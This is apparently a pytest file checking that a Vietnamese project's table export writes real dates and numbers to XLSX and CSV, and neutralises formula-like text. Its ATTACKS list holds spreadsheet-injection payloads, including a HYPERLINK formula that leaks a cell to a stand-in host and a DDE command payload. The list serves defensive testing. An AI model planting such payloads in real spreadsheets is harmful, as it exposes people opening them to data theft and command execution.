"""Tables people open in Excel: real dates and numbers, and text that is never a formula."""

import csv
from datetime import date

from openpyxl import load_workbook

from cancuoc.lib.tables import write_table

COLUMNS = [("Họ tên", "name"), ("Ngày sinh", "birth"), ("Số người", "count"), ("SĐT", "phone")]
ATTACKS = ['=HYPERLINK("http://x.example/?leak="&A1,"y")', "=cmd|' /C calc'!A0", "@SUM(1)", "-2+3"]


def rows():
    yield {
        "name": "Nguyễn Thị\x00 An",
        "birth": date(1990, 3, 15),
        "count": 14909,
        "phone": "+84912345678",
    }
    for attack in ATTACKS:
        yield {"name": attack, "birth": None, "count": 1, "phone": ""}


def test_xlsx_cells_are_dates_numbers_and_inert_text(tmp_path):
    path = tmp_path / "danh-sach.xlsx"
    assert write_table(path, columns=COLUMNS, rows=rows(), title="=1+1 Danh sách") == 5
    sheet = load_workbook(path).active
    title, _header, first, *attacks = list(sheet.iter_rows())
    assert title[0].data_type == "s" and title[0].value == "=1+1 Danh sách"
    assert first[0].value == "Nguyễn Thị An"  # the NUL that XLSX cannot hold is dropped
    assert first[1].is_date and first[1].value.date() == date(1990, 3, 15)
    assert first[1].number_format == "dd/mm/yyyy"
    assert first[2].value == 14909 and first[2].number_format == "#,##0"
    assert first[3].value == "+84912345678" and first[3].data_type == "s"
    for row, attack in zip(attacks, ATTACKS, strict=True):
        assert row[0].value == attack and row[0].data_type == "s", row[0].value
        assert row[0].quotePrefix


def test_csv_text_that_would_run_is_prefixed(tmp_path):
    path = tmp_path / "danh-sach.csv"
    write_table(path, columns=COLUMNS, rows=rows())
    with path.open(encoding="utf-8-sig", newline="") as handle:
        _header, first, *attacks = list(csv.reader(handle))
    assert first[:3] == ["Nguyễn Thị An", "15/03/1990", "14909"]
    assert [row[0] for row in attacks] == ["'" + attack for attack in ATTACKS]


def test_rows_of_ordinary_sheets_keep_text_as_text(tmp_path):
    from openpyxl import Workbook

    from cancuoc.lib.tables import sheet_append

    book = Workbook()
    sheet_append(book.active, [*ATTACKS, "Lê\x07 Văn", 3, date(2021, 4, 1)])
    book.save(tmp_path / "x.xlsx")
    row = next(load_workbook(tmp_path / "x.xlsx").active.iter_rows())
    assert [c.value for c in row[:4]] == ATTACKS and all(c.data_type == "s" for c in row[:4])
    assert all(c.quotePrefix for c in row[:4])
    assert row[4].value == "Lê Văn" and row[5].value == 3 and row[6].is_date
